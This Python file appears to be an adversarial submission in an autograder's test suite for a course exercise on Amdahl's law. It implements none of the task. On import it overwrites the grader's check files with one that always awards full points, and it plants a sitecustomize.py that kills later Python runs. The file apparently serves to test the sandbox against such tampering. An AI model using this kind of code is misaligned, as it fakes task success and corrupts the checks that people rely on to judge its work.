"""Rewritten checks: replace the checks on disk so that this and later runs pass.

Targets ch01 ex01_amdahl and implements nothing: its honest score is 0. At
import it overwrites the chapter's checks*.py of the repository that holds
the installed package with checks that always pass, and plants a
sitecustomize.py on the package's path.

DANGER: outside the namespace sandbox (not root, or DSSCALE_SANDBOX=basic)
this really rewrites the repository's checks; the test runs it only inside.
"""

from pathlib import Path

import dsscale

FAKE = '''
from dsscale.grading import check

@check("ex01_amdahl", points=100, name="free points")
def _(ex):
    pass
'''

for root in (Path(dsscale.__file__).resolve().parents[2], Path("/autograder/source")):
    for checks in (root / "exercises" / "ch01_background").glob("checks*.py"):
        try:
            checks.write_text(FAKE)
        except OSError:
            pass
try:
    (Path(dsscale.__file__).parent.parent / "sitecustomize.py").write_text(
        "raise SystemExit('pwned')\n")
except OSError:
    pass


def amdahl_speedup(parallel_fraction, workers):
    raise NotImplementedError


def amdahl_limit(parallel_fraction):
    raise NotImplementedError
